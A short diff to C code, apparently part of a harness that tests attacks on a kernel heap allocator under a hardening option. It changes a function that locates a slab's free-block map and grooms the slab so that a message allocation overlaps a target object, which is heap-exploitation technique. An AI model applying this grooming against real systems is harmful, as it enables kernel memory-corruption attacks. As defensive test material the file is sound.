@@ -8,7 +8,8 @@
 #include <kernel/heap.h>
 
 #define SIZE 496
-#define MAPS 24 /* kernel/mm/heap_slab.c: here or in the next word a slab has its map of free blocks */
+/* Where a slab has its map of free blocks: kernel/mm/heap_slab.c. */
+#define MAP (IS_ENABLED(CONFIG_HEAP_HARDENING) ? 32 : 24)
 #define BLOCKS 8
 
 struct user {
@@ -60,16 +61,11 @@ static bool benign(const struct attack *attack)
 /* In the object's slab: users take all but one of its free blocks, and are marked free; then a message takes one. */
 static uint64_t overlap(uint64_t *slots)
 {
-	long map = MAPS / 8 - (long)((uintptr_t)slots % PAGE_SIZE / sizeof(uint64_t));
+	long map = MAP / 8 - (long)((uintptr_t)slots % PAGE_SIZE / sizeof(uint64_t));
 	struct user *users[BLOCKS];
-	uint64_t before, found = 0;
-	int count;
+	uint64_t before = get_slot(slots, map), found = 0;
+	int count = min(__builtin_popcountll(before) - 1, BLOCKS);
 
-	/* Of the two words the map is the one that is not zero, unless the slab is full. */
-	if (!get_slot(slots, map))
-		map++;
-	before = get_slot(slots, map);
-	count = min(__builtin_popcountll(before) - 1, BLOCKS);
 	for (int i = 0; i < count; i++)
 		users[i] = log_in(1000);
 	if (count > 0) {
